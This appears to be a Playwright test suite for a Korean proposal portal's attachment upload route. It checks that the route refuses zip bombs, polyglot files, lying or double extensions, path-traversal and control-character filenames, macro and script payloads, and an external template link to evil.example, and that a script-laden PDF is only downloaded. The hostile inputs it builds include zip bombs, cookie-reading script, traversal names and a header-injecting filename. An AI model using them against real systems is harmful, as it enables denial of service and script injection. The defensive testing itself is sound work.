import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { expect, test, type APIRequestContext } from "@playwright/test";
import ko from "../../lib/i18n/messages/ko";
import { adminClient, verifiedApplicant } from "./helpers";
import { createCall } from "./fixtures";
import { org } from "../support/builders";
import { docxEntries, exe, hwp, hwpx, pdf, rawEntry, rawZip, xlsx, xlsxEntries, zeroBombEntry, zip, docx, rels, REL_TYPES, hwpWith, HOSTILE_SCRIPT, CC_ON_SCRIPT, duplicateContentTypesDocx, contentTypes } from "../support/files";

// Issue 6, hostile files through the real upload route (POST /api/v1/proposals/{id}/attachments,
// multipart built byte by byte so names reach the server exactly as an attacker would send them).
// Every refusal has a stable code, writes no attachment row (none listed, no upload audit event) and
// leaves no file behind in the server's upload folder; what is accepted comes back only as a download.

const UPLOAD_DIR = path.resolve(process.env.UPLOAD_DIR ?? ".data/uploads");

/** Every regular file under the server's upload folder (partial uploads in .tmp included). */
function uploadedFiles(): Set<string> {
  if (!fs.existsSync(UPLOAD_DIR)) return new Set();
  return new Set(
    fs
      .readdirSync(UPLOAD_DIR, { recursive: true, withFileTypes: true })
      .filter((d) => d.isFile())
      .map((d) => path.relative(UPLOAD_DIR, path.join(d.parentPath, d.name))),
  );
}

/** The file part's Content-Disposition parameter, verbatim: `filename="…"` or `filename*=UTF-8''…`. */
type NameParam = { quoted: string } | { star: string } | { rawHeader: Buffer };

function multipartBody(name: NameParam, bytes: Buffer, clientType: string) {
  const boundary = `----hostile${crypto.randomBytes(8).toString("hex")}`;
  const param =
    "quoted" in name
      ? Buffer.from(`filename="${name.quoted}"`, "utf8")
      : "star" in name
        ? Buffer.from(`filename*=UTF-8''${encodeURIComponent(name.star)}`, "latin1")
        : name.rawHeader;
  const body = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; `, "latin1"),
    param,
    Buffer.from(`\r\nContent-Type: ${clientType}\r\n\r\n`, "latin1"),
    bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`, "latin1"),
  ]);
  return { headers: { "content-type": `multipart/form-data; boundary=${boundary}` }, data: body };
}

/** A PDF whose body is an HTML page with script: a valid start and end, so it passes as a PDF. */
function pdfWithHtml(): Buffer {
  const html = `<html><head><title>x</title></head><body><script>window.__pwned = 1; alert(document.cookie)</script><h1>pwned</h1></body></html>`;
  const base = pdf("plan").toString("latin1");
  const cut = base.indexOf("\n") + 1;
  return Buffer.from(base.slice(0, cut) + html + "\n" + base.slice(cut), "latin1");
}

/** Semi-random spreadsheet XML: compresses like a real sheet (a few times), far below 100×. */
function realisticSheet(bytes: number): string {
  let s = "<worksheet><sheetData>";
  for (let r = 1; s.length < bytes; r++) s += `<row r="${r}"><c r="A${r}"><v>${crypto.randomInt(1e9)}</v></c><c r="B${r}" t="s"><v>${crypto.randomInt(5000)}</v></c></row>`;
  return s + "</sheetData></worksheet>";
}

interface Scene {
  admin: APIRequestContext;
  api: APIRequestContext;
  proposalId: string;
}

async function scene(): Promise<Scene> {
  const admin = await adminClient();
  const call = await createCall(admin);
  const lead = await verifiedApplicant(admin);
  const c = await lead.ctx.post("/api/v1/consortia", { data: { callSlug: call.slug, name: `첨부 공격 ${crypto.randomBytes(2).toString("hex")}`, lead: org() } });
  expect(c.status()).toBe(201);
  const p = await lead.ctx.post("/api/v1/proposals", { data: { consortiumId: (await c.json()).id } });
  expect(p.status()).toBe(201);
  return { admin, api: lead.ctx, proposalId: (await p.json()).id };
}

async function uploadAuditCount(s: Scene): Promise<number> {
  const res = await s.admin.get(`/api/v1/admin/audit?entityType=PROPOSAL&entityId=${s.proposalId}&action=proposal.attachment_uploaded`);
  expect(res.status()).toBe(200);
  return (await res.json()).total;
}

async function listed(s: Scene): Promise<{ id: string; fileName: string; mediaType: string }[]> {
  return (await (await s.api.get(`/api/v1/proposals/${s.proposalId}`)).json()).attachments;
}

interface Refusal {
  what: string;
  kind: string;
  name: NameParam;
  bytes: Buffer;
  clientType?: string;
  status: number;
  code: string;
  /** The field key whose Korean message `fields.file` must carry, when the refusal names one. */
  field?: keyof typeof ko.fields;
}

async function expectRefused(s: Scene, r: Refusal) {
  const filesBefore = uploadedFiles();
  const listedBefore = await listed(s);
  const auditBefore = await uploadAuditCount(s);
  const res = await s.api.post(`/api/v1/proposals/${s.proposalId}/attachments?kind=${r.kind}`, multipartBody(r.name, r.bytes, r.clientType ?? "application/pdf"));
  const body = await res.json();
  expect([r.what, res.status(), body.error?.code]).toEqual([r.what, r.status, r.code]);
  if (r.field) expect([r.what, body.error.fields?.file]).toEqual([r.what, ko.fields[r.field]]);
  expect([r.what, await listed(s)]).toEqual([r.what, listedBefore]);
  expect([r.what, await uploadAuditCount(s)]).toEqual([r.what, auditBefore]);
  expect([r.what, [...uploadedFiles()].filter((f) => !filesBefore.has(f))]).toEqual([r.what, []]);
}

test("zip bombs dressed as DOCX, XLSX and HWPX are refused before they reach a reviewer; real packages pass", async () => {
  test.setTimeout(120_000);
  const s = await scene();
  const docxBomb = rawZip([...Object.entries(docxEntries()).filter(([n]) => n !== "word/document.xml").map(([n, c]) => rawEntry(n, c)), zeroBombEntry("word/document.xml", 1024)]);
  expect(docxBomb.length).toBeLessThan(2 << 20); // 1 GiB declared, about 1 MiB sent
  // 200 MiB in one part: under any total cap, refused for its expansion ratio (~1000×) alone.
  const xlsxBomb = rawZip([...Object.entries(xlsxEntries()).filter(([n]) => n !== "xl/worksheets/sheet1.xml").map(([n, c]) => rawEntry(n, c)), zeroBombEntry("xl/worksheets/sheet1.xml", 200)]);
  const hwpxBomb = rawZip([rawEntry("mimetype", "application/hwp+zip", 0), rawEntry("Contents/content.hpf", "<opf:package/>"), zeroBombEntry("Contents/section0.xml", 512)]);
  // Many small bombs that each stay under the per-part grace size but add up past 1 GiB.
  const pad = zeroBombEntry("pad", 1);
  const manyParts = rawZip([...Object.entries(docxEntries()).map(([n, c]) => rawEntry(n, c)), ...Array.from({ length: 1100 }, (_, i) => ({ ...pad, name: `word/media/pad${i}.bin` }))]);
  for (const r of [
    { what: "docx bomb", kind: "BUSINESS_PLAN", name: { quoted: "사업계획서.docx" }, bytes: docxBomb },
    { what: "xlsx bomb", kind: "BUDGET_PLAN", name: { quoted: "예산.xlsx" }, bytes: xlsxBomb },
    { what: "hwpx bomb", kind: "CONSORTIUM_AGREEMENT", name: { quoted: "협약서.hwpx" }, bytes: hwpxBomb },
    { what: "1 GiB in small parts", kind: "OTHER", name: { quoted: "부록.docx" }, bytes: manyParts },
  ] satisfies Omit<Refusal, "status" | "code" | "field">[]) {
    await expectRefused(s, { ...r, clientType: "application/octet-stream", status: 422, code: "VALIDATION_FAILED", field: "fileArchiveSuspicious" });
  }

  // Controls: the same formats as real documents are accepted, including a 6 MB sheet that compresses like one.
  const bigSheet = await zip({ ...xlsxEntries(), "xl/worksheets/sheet1.xml": realisticSheet(6 << 20) });
  for (const [kind, name, bytes] of [
    ["BUSINESS_PLAN", "사업계획서.docx", await docx()],
    ["BUDGET_PLAN", "예산.xlsx", bigSheet],
    ["CONSORTIUM_AGREEMENT", "협약서.hwpx", await hwpx()],
    ["OTHER", "부록.xlsx", await xlsx()],
  ] as const) {
    const res = await s.api.post(`/api/v1/proposals/${s.proposalId}/attachments?kind=${kind}`, multipartBody({ quoted: name }, bytes, "application/octet-stream"));
    expect([name, res.status()]).toEqual([name, 201]);
  }
  expect((await listed(s)).map((a) => a.fileName).sort()).toEqual(["부록.xlsx", "사업계획서.docx", "예산.xlsx", "협약서.hwpx"].sort());
  await s.admin.dispose();
  await s.api.dispose();
});

test("polyglots, double extensions, lying extensions and hostile names are refused with stable codes, leaving nothing", async () => {
  test.setTimeout(120_000);
  const s = await scene();
  const p = pdf("plan");
  const d = await docx();
  const html = Buffer.from("<!doctype html><html><body><script>alert(1)</script></body></html>\n");
  // A ZIP whose archive comment swallows a trailing %%EOF, so the file also ends like a PDF.
  const eof = Buffer.from("\n%%EOF\n");
  const commented = Buffer.from(d);
  commented.writeUInt16LE(eof.length, commented.length - 2);
  const UNSUPPORTED = { status: 415, code: "UNSUPPORTED_MEDIA_TYPE", field: "fileTypeUnsupported" } as const;
  const MISMATCH = { status: 422, code: "VALIDATION_FAILED", field: "fileExtensionMismatch" } as const;
  const BAD_NAME = { status: 422, code: "VALIDATION_FAILED", field: "fileNameInvalid" } as const;
  const MALFORMED = { status: 400, code: "BAD_REQUEST" } as const;
  const refusals: Refusal[] = [
    // Polyglots: an executable carrying a whole PDF, a PDF that is also a ZIP (appended after %%EOF, or
    // with %%EOF hidden in the archive comment), a ZIP with a PDF appended, a PDF header without an
    // end, an HTML page named .pdf.
    { what: "exe + embedded pdf", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf" }, bytes: Buffer.concat([exe().subarray(0, 200), p]), ...UNSUPPORTED },
    { what: "pdf + appended zip", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf" }, bytes: Buffer.concat([p, d]), ...UNSUPPORTED },
    { what: "pdf + zip + %%EOF in its comment", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf" }, bytes: Buffer.concat([p, commented, eof]), ...UNSUPPORTED },
    { what: "zip + appended pdf", kind: "BUSINESS_PLAN", name: { quoted: "plan.docx" }, bytes: Buffer.concat([d, p]), ...UNSUPPORTED },
    { what: "%PDF- without %%EOF", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf" }, bytes: Buffer.concat([Buffer.from("%PDF-1.7\n"), html]), ...UNSUPPORTED },
    { what: "html named .pdf", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf" }, bytes: html, ...UNSUPPORTED },
    // Double extensions.
    { what: "plan.pdf.exe (PDF bytes)", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf.exe" }, bytes: p, ...MISMATCH },
    { what: "plan.exe.pdf (EXE bytes)", kind: "BUSINESS_PLAN", name: { quoted: "plan.exe.pdf" }, bytes: exe(), clientType: "application/pdf", ...UNSUPPORTED },
    { what: "right-to-left override", kind: "BUSINESS_PLAN", name: { star: "계획서\u202Efdp.exe" }, bytes: p, ...BAD_NAME },
    // Extensions (and client types) that lie about the content.
    { what: "docx named .pdf", kind: "BUSINESS_PLAN", name: { quoted: "plan.pdf" }, bytes: d, ...MISMATCH },
    { what: "pdf named .html", kind: "BUSINESS_PLAN", name: { quoted: "plan.html" }, bytes: p, clientType: "text/html", ...MISMATCH },
    { what: "hwp named .hwpx", kind: "CONSORTIUM_AGREEMENT", name: { quoted: "협약서.hwpx" }, bytes: hwp(), ...MISMATCH },
    { what: "xlsx where only PDF is allowed", kind: "PARTICIPATION_CONFIRMATION", name: { quoted: "확약서.xlsx" }, bytes: await xlsx(), status: 422, code: "VALIDATION_FAILED", field: "fileTypeNotAllowed" },
    // Paths and control characters in the name.
    { what: "../ traversal", kind: "BUSINESS_PLAN", name: { quoted: "../../etc/passwd.pdf" }, bytes: p, ...BAD_NAME },
    { what: "..\\ traversal", kind: "BUSINESS_PLAN", name: { quoted: "..\\..\\x.pdf" }, bytes: p, ...BAD_NAME },
    { what: "absolute path", kind: "BUSINESS_PLAN", name: { quoted: "/etc/passwd.pdf" }, bytes: p, ...BAD_NAME },
    { what: "drive path", kind: "BUSINESS_PLAN", name: { quoted: "C:\\Windows\\x.pdf" }, bytes: p, ...BAD_NAME },
    { what: "dot-dot alone", kind: "BUSINESS_PLAN", name: { quoted: ".." }, bytes: p, ...BAD_NAME },
    { what: "encoded NUL", kind: "BUSINESS_PLAN", name: { star: "plan.pdf\u0000.exe" }, bytes: p, ...BAD_NAME },
    { what: "encoded newline", kind: "BUSINESS_PLAN", name: { star: "plan\r\nX-Injected: 1.pdf" }, bytes: p, ...BAD_NAME },
    { what: "encoded DEL", kind: "BUSINESS_PLAN", name: { star: "plan\u007f.pdf" }, bytes: p, ...BAD_NAME },
    { what: "raw NUL in the part header", kind: "BUSINESS_PLAN", name: { rawHeader: Buffer.from('filename="plan\u0000.pdf"', "latin1") }, bytes: p, ...MALFORMED },
    { what: "20 000-character name", kind: "BUSINESS_PLAN", name: { quoted: `${"a".repeat(20_000)}.pdf` }, bytes: p, ...MALFORMED },
  ];
  for (const r of refusals) await expectRefused(s, r);
  expect(await listed(s)).toEqual([]);
  expect(await uploadAuditCount(s)).toBe(0);

  // A very long (but parseable) name is kept shortened to 200 characters, extension intact.
  const long = await s.api.post(`/api/v1/proposals/${s.proposalId}/attachments?kind=OTHER`, multipartBody({ quoted: `${"가".repeat(1000)}.pdf` }, p, "application/pdf"));
  expect(long.status()).toBe(201);
  const longName = (await long.json()).fileName as string;
  expect(longName.endsWith(".pdf")).toBe(true);
  expect([...longName].length).toBeLessThanOrEqual(200);
  expect(Buffer.byteLength(longName)).toBeLessThanOrEqual(255);
  await s.admin.dispose();
  await s.api.dispose();
});

test("a PDF carrying HTML and script is accepted as a PDF and only ever served as a download", async ({ page }) => {
  const s = await scene();
  const bytes = pdfWithHtml();
  const filesBefore = uploadedFiles();
  // The client claims text/html and the name tries to break out of Content-Disposition.
  const trick = 'a"; filename="evil.html.pdf';
  const up = await s.api.post(`/api/v1/proposals/${s.proposalId}/attachments?kind=BUSINESS_PLAN`, multipartBody({ star: trick }, bytes, "text/html"));
  expect(up.status()).toBe(201);
  const att = await up.json();
  expect(att).toMatchObject({ fileName: trick, mediaType: "application/pdf", size: bytes.length });
  expect([...uploadedFiles()].filter((f) => !filesBefore.has(f))).toHaveLength(1);

  const url = `/api/v1/proposals/${s.proposalId}/attachments/${att.id}`;
  const down = await s.api.get(url);
  expect(down.status()).toBe(200);
  const h = down.headers();
  expect(h["content-type"]).toBe("application/pdf");
  expect(h["x-content-type-options"]).toBe("nosniff");
  expect(h["content-security-policy"]).toContain("default-src 'none'");
  expect(h["cache-control"]).toContain("no-store");
  // One disposition, "attachment", whose quoted ASCII name cannot close early, and the exact name in filename*.
  const cd = h["content-disposition"]!;
  expect(cd.startsWith("attachment;")).toBe(true);
  const ascii = cd.match(/filename="([^"]*)"/)![1]!;
  expect(ascii).not.toContain('"');
  expect(cd.replace(/"[^"]*"/g, "").match(/filename=/g)).toHaveLength(1);
  expect(decodeURIComponent(cd.match(/filename\*=UTF-8''([^;\s]+)/)![1]!)).toBe(trick);
  expect(Buffer.from(await down.body()).equals(bytes)).toBe(true);

  // In Chromium, opening the link downloads the file; nothing of it runs in the portal's origin.
  await page.context().addCookies((await s.api.storageState()).cookies);
  let dialogs = 0;
  page.on("dialog", (dlg) => {
    dialogs++;
    void dlg.dismiss();
  });
  await page.goto("/consortia");
  const download = page.waitForEvent("download");
  await page.evaluate((href) => {
    const a = document.createElement("a");
    a.href = href;
    document.body.appendChild(a);
    a.click();
  }, url);
  const file = await download;
  expect(fs.readFileSync((await file.path())!).equals(bytes)).toBe(true);
  expect(new URL(page.url()).pathname).toBe("/consortia");
  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  // Typed straight into the address bar, too: a download, never a rendered page.
  const direct = page.waitForEvent("download");
  await page.goto(url).catch((e: Error) => expect(e.message).toMatch(/Download is starting|ERR_ABORTED/));
  await direct;
  expect(dialogs).toBe(0);
  await s.admin.dispose();
  await s.api.dispose();
});

test("active content is refused over HTTP with a Korean message naming what was found (issue 11 item 16)", async () => {
  const s = await scene();
  const macro = await zip({ ...docxEntries(), "word/_rels/document.xml.rels": rels([{ type: REL_TYPES.vbaProject, target: "payload.dat" }]), "word/payload.dat": Buffer.alloc(256, 7) });
  const templateAfterGt = await zip({
    ...docxEntries(),
    "word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm?a>b" Type="${REL_TYPES.attachedTemplate}" TargetMode="External"/></Relationships>`,
  });
  const cases: [string, string, Buffer, string][] = [
    ["BUSINESS_PLAN", "사업계획서.docx", macro, ko.fields.fileMacro.replace("{found}", "word/payload.dat")],
    ["CONSORTIUM_AGREEMENT", "협약서.hwp", hwpWith({ script: HOSTILE_SCRIPT }), ko.fields.fileScript.replace("{found}", "Scripts/DefaultJScript")],
    // Bypasses the security review confirmed: a script in conditional-compilation comments, a '>' in an attribute value, two [Content_Types].xml.
    ["CONSORTIUM_AGREEMENT", "협약서.hwp", hwpWith({ script: CC_ON_SCRIPT }), ko.fields.fileScript.replace("{found}", "Scripts/DefaultJScript")],
    ["BUSINESS_PLAN", "사업계획서.docx", templateAfterGt, ko.fields.fileExternalLink.replace("{found}", "https://evil.example/t.dotm?a>b")],
    ["BUSINESS_PLAN", "사업계획서.docx", duplicateContentTypesDocx(contentTypes({ "/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml" })), ko.fields.fileArchiveDuplicateEntry.replace("{found}", "[Content_Types].xml")],
  ];
  for (const [kind, name, bytes, message] of cases) {
    const filesBefore = uploadedFiles();
    const res = await s.api.post(`/api/v1/proposals/${s.proposalId}/attachments?kind=${kind}`, multipartBody({ quoted: name }, bytes, "application/octet-stream"));
    expect([name, res.status()]).toEqual([name, 422]);
    expect((await res.json()).error).toEqual({ code: "VALIDATION_FAILED", message: ko.errors.VALIDATION_FAILED, fields: { file: message } });
    expect([...uploadedFiles()].filter((f) => !filesBefore.has(f))).toEqual([]);
  }
  expect(await listed(s)).toEqual([]);
  expect(await uploadAuditCount(s)).toBe(0);
  await s.admin.dispose();
  await s.api.dispose();
});
